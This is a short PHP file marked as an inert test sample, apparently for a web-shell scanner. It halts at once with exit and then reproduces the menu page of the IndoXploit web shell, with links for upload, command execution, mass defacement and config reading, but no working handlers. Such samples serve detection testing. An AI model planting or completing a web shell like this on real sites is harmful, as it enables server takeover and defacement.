<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

echo "<html><head><title>IndoXploit - Shell</title></head><body>";
echo "<center><h1>IndoXploit Shell</h1></center>";
$dir = isset($_GET['dir']) ? $_GET['dir'] : getcwd();
echo "System: " . php_uname() . "<br>Dir: " . htmlspecialchars($dir) . "<br>";
echo "<a href='?dir=" . urlencode($dir) . "&do=upload'>Upload</a> | ";
echo "<a href='?dir=" . urlencode($dir) . "&do=cmd'>Command</a> | ";
echo "<a href='?dir=" . urlencode($dir) . "&do=mass_deface'>Mass Deface</a> | ";
echo "<a href='?dir=" . urlencode($dir) . "&do=config'>Config</a>";
echo "</body></html>";
